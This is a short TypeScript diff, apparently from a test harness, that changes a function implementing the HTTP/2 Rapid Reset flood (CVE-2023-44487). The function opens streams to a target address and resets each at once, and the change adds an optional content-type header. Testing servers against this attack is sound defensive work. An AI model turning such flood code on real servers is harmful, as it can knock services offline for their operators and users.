@@ -46,8 +46,14 @@ async function flood(
 }
 
 /** Opens streams and resets each at once (CVE-2023-44487). */
-export function rapidReset(t: Teardowns, address: string, path: string, most: number): Promise<Flood> {
-  const block = headerBlock(path)
+export function rapidReset(
+  t: Teardowns,
+  address: string,
+  path: string,
+  most: number,
+  contentType?: string,
+): Promise<Flood> {
+  const block = headerBlock(path, contentType)
   return flood(t, address, most, (index) => {
     const stream = 2 * index + 1
     return Buffer.concat([
@@ -115,13 +121,13 @@ function frame(type: number, flags: number, stream: number, payload: Buffer): Bu
   return Buffer.concat([head, payload])
 }
 
-function headerBlock(path: string): Buffer {
+function headerBlock(path: string, contentType = 'application/grpc'): Buffer {
   const headers = [
     [':method', 'POST'],
     [':scheme', 'http'],
     [':path', path],
     [':authority', 'edge'],
-    ['content-type', 'application/grpc'],
+    ['content-type', contentType],
     ['te', 'trailers'],
   ] as const
   return Buffer.concat(headers.map(([name, value]) => literal(name, value)))
